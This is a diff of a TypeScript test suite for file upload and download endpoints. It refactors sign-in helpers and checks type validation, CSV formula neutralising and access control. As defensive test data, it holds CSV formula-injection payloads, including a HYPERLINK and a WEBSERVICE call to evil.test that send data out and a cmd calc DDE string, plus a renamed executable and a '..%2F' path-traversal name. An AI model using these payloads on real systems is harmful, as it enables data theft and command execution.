@@ -3,9 +3,9 @@ import { eq } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
 import { files, insightRequests } from "~db/schema";
 import { readUpload } from "~/server/files/files.server";
-import { call, db, signedIn } from "../support";
-import { create, payload } from "../insight-requests-support";
+import { call, db, create, payload } from "../helpers";
 import { compoundFile, concat, docx, jpeg, openDocument, pdf, png, PNG_SIGNATURE, text, xlsx } from "../../support/sample-files";
+import { signedInClient, signedInManager } from "../../factories";
 
 const UPLOAD = "/api/file-handling/upload-files";
 const TOO_LARGE = "This file is too large. Maximum file size is 16MB.";
@@ -75,7 +75,7 @@ async function expectNothingStored(businessId: string) {
 
 describe("POST /api/file-handling/upload-files", () => {
   it("stores a pdf and a png in R2 with their rows and answers the stored names", async () => {
-    const { user, business, token } = await signedIn({ withBusiness: true });
+    const { user, business, token } = await signedInClient();
     const response = await upload(
       form(
         [
@@ -99,21 +99,21 @@ describe("POST /api/file-handling/upload-files", () => {
     expect(png.fileName).toMatch(/^[0-9a-f-]{36}\.png$/);
     expect(png).toMatchObject({ originalName: "logo.PNG", size: PNG_BYTES.length, contentType: "image/png" });
 
-    const stored = await env.FILES.get(`biz/${business!.id}/${pdf.fileName}`);
+    const stored = await env.FILES.get(`biz/${business.id}/${pdf.fileName}`);
     expect(stored).not.toBeNull();
     expect(new Uint8Array(await stored!.arrayBuffer())).toEqual(PDF_BYTES);
     // The server's content type, never the client's.
     expect(stored!.httpMetadata?.contentType).toBe("application/pdf");
     expect(stored!.customMetadata).toEqual({ originalName: "Q3 report.pdf" });
-    const storedPng = await env.FILES.get(`biz/${business!.id}/${png.fileName}`);
+    const storedPng = await env.FILES.get(`biz/${business.id}/${png.fileName}`);
     expect(new Uint8Array(await storedPng!.arrayBuffer())).toEqual(PNG_BYTES);
 
-    const rows = await rowsOf(business!.id);
+    const rows = await rowsOf(business.id);
     expect(rows).toHaveLength(2);
     const pdfRow = rows.find((row) => row.id === pdf._id)!;
     expect(pdfRow).toMatchObject({
       uploadedByUserId: user.id,
-      r2Key: `biz/${business!.id}/${pdf.fileName}`,
+      r2Key: `biz/${business.id}/${pdf.fileName}`,
       originalName: "Q3 report.pdf",
       contentType: "application/pdf",
       sizeBytes: PDF_BYTES.length,
@@ -124,25 +124,25 @@ describe("POST /api/file-handling/upload-files", () => {
   });
 
   it("says 'Your file has been added!' for one file, purpose other by default", async () => {
-    const { business, token } = await signedIn({ withBusiness: true });
+    const { business, token } = await signedInClient();
     const response = await upload(form([{ name: "numbers.csv", bytes: "month,revenue\n2026-01,1200\n" }]), token);
     expect(response.status).toBe(201);
     const body = (await response.json()) as { msg: string; files: { contentType: string }[] };
     expect(body.msg).toBe("Your file has been added!");
     expect(body.files[0].contentType).toBe("text/csv; charset=utf-8");
-    const rows = await rowsOf(business!.id);
+    const rows = await rowsOf(business.id);
     expect(rows).toHaveLength(1);
     expect(rows[0].purpose).toBe("other");
   });
 
   it("refuses a file over 16,000,000 bytes with the too-large text and stores nothing", async () => {
-    const { business, token } = await signedIn({ withBusiness: true });
+    const { business, token } = await signedInClient();
     const big = new Uint8Array(16_000_001);
     big.set(PDF_BYTES);
     const response = await upload(form([{ name: "big.pdf", bytes: big }]), token);
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ msg: TOO_LARGE });
-    await expectNothingStored(business!.id);
+    await expectNothingStored(business.id);
   });
 
   it("refuses a declared body over the request limit before reading it", async () => {
@@ -160,7 +160,7 @@ describe("POST /api/file-handling/upload-files", () => {
   });
 
   it("refuses content that is not what the extension says", async () => {
-    const { business, token } = await signedIn({ withBusiness: true });
+    const { business, token } = await signedInClient();
     const cases: Part[] = [
       { name: "invoice.pdf", bytes: "MZ\x90\x00\x03\x00\x00\x00\x04\x00" }, // a renamed executable
       { name: "statement.pdf", bytes: "<!doctype html><html><script>alert(1)</script></html>" },
@@ -185,11 +185,11 @@ describe("POST /api/file-handling/upload-files", () => {
       expect(response.status, part.name).toBe(400);
       expect(await response.json(), part.name).toEqual({ msg: REJECTED });
     }
-    await expectNothingStored(business!.id);
+    await expectNothingStored(business.id);
   });
 
   it("accepts one real file of every type with the server's content type", async () => {
-    const { business, token } = await signedIn({ withBusiness: true });
+    const { business, token } = await signedInClient();
     const response = await upload(form(VALID_CORPUS.slice(0, 10).map(({ name, bytes }) => ({ name, bytes }))), token);
     expect(response.status).toBe(201);
     const rest = await upload(form(VALID_CORPUS.slice(10).map(({ name, bytes }) => ({ name, bytes }))), token);
@@ -201,11 +201,11 @@ describe("POST /api/file-handling/upload-files", () => {
     expect(stored).toEqual(
       VALID_CORPUS.map(({ name, bytes, contentType }) => expect.objectContaining({ originalName: name, contentType, size: bytes.length })),
     );
-    expect(await objectCount(business!.id)).toBe(VALID_CORPUS.length);
+    expect(await objectCount(business.id)).toBe(VALID_CORPUS.length);
   });
 
   it("stores nothing when any file of the upload is refused", async () => {
-    const { business, token } = await signedIn({ withBusiness: true });
+    const { business, token } = await signedInClient();
     const response = await upload(
       form([
         { name: "good.pdf", bytes: PDF_BYTES },
@@ -216,11 +216,11 @@ describe("POST /api/file-handling/upload-files", () => {
     );
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ msg: REJECTED });
-    await expectNothingStored(business!.id);
+    await expectNothingStored(business.id);
   });
 
   it("answers 400 without files, with too many files, a bad purpose or a non-multipart body", async () => {
-    const { business, token } = await signedIn({ withBusiness: true });
+    const { business, token } = await signedInClient();
     const empty = new FormData();
     empty.append("purpose", "other");
     let response = await upload(empty, token);
@@ -242,7 +242,7 @@ describe("POST /api/file-handling/upload-files", () => {
     response = await upload("--x\r\nbroken", token, { "Content-Type": "multipart/form-data; boundary=zzz" });
     expect(response.status).toBe(400);
     expect(await response.json()).toEqual({ msg: "The upload could not be read." });
-    await expectNothingStored(business!.id);
+    await expectNothingStored(business.id);
   });
 
   it("answers 401 without a session and 403 for staff", async () => {
@@ -250,7 +250,7 @@ describe("POST /api/file-handling/upload-files", () => {
     expect(response.status).toBe(401);
     expect(await response.json()).toEqual({ msg: "You are not signed in." });
 
-    const manager = await signedIn({ role: "manager" });
+    const manager = await signedInManager();
     response = await upload(form([{ name: "a.pdf", bytes: PDF_BYTES }]), manager.token);
     expect(response.status).toBe(403);
     expect(await response.json()).toEqual({ msg: "Only business accounts can upload files." });
@@ -261,7 +261,7 @@ describe("POST /api/file-handling/upload-files", () => {
 
 describe("GET /api/file-handling/get-file/{fileName}", () => {
   async function uploadedPdf() {
-    const owner = await signedIn({ withBusiness: true });
+    const owner = await signedInClient();
     const response = await upload(form([{ name: "Résumé (final).pdf", bytes: PDF_BYTES }]), owner.token);
     expect(response.status).toBe(201);
     const body = (await response.json()) as { files: { fileName: string }[] };
@@ -282,7 +282,7 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
   });
 
   it("serves a CSV with its formula cells made inert, keeping the stored original", async () => {
-    const owner = await signedIn({ withBusiness: true });
+    const owner = await signedInClient();
     const original = 'name,link,amount\r\nDana,=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n';
     const response = await upload(form([{ name: "contacts.csv", bytes: original }]), owner.token);
     expect(response.status).toBe(201);
@@ -297,19 +297,19 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
     expect(download.headers.get("Content-Disposition")).toBe(`attachment; filename="contacts.csv"; filename*=UTF-8''contacts.csv`);
     expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
 
-    const stored = await env.FILES.get(`biz/${owner.business!.id}/${uploaded[0].fileName}`);
+    const stored = await env.FILES.get(`biz/${owner.business.id}/${uploaded[0].fileName}`);
     expect(await stored!.text()).toBe(original);
-    const [row] = await rowsOf(owner.business!.id);
+    const [row] = await rowsOf(owner.business.id);
     expect(row.sha256).toBe(await sha256(text(original)));
   });
 
   it("serves the assigned manager the same inert CSV", async () => {
-    const owner = await signedIn({ withBusiness: true });
+    const owner = await signedInClient();
     const uploaded = await upload(form([{ name: "links.csv", bytes: "site\n=WEBSERVICE(\"https://evil.test\")\n" }]), owner.token);
     const fileName = ((await uploaded.json()) as { files: { fileName: string }[] }).files[0].fileName;
-    const created = await create(owner.token, payload(owner.business!.id, { files: [fileName] }));
+    const created = await create(owner.token, payload(owner.business.id, { files: [fileName] }));
     const requestId = ((await created.json()) as { insightRequest: { _id: string } }).insightRequest._id;
-    const manager = await signedIn({ role: "manager" });
+    const manager = await signedInManager();
     await db().update(insightRequests).set({ assignedManagerId: manager.user.id }).where(eq(insightRequests.id, requestId));
 
     const download = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
@@ -321,13 +321,13 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
 
   it("answers another business, a missing file and a malformed name with the same 404", async () => {
     const { fileName } = await uploadedPdf();
-    const other = await signedIn({ withBusiness: true });
+    const other = await signedInClient();
     for (const name of [fileName, `${crypto.randomUUID()}.pdf`, "report.pdf", "..%2F..%2Fsecret.pdf", `${fileName}x`]) {
       const response = await call(`/api/file-handling/get-file/${name}`, { cookie: other.token });
       expect(response.status, name).toBe(404);
       expect(await response.json(), name).toEqual({ msg: "File not found." });
     }
-    const manager = await signedIn({ role: "manager" });
+    const manager = await signedInManager();
     const staff = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
     expect(staff.status).toBe(404);
   });
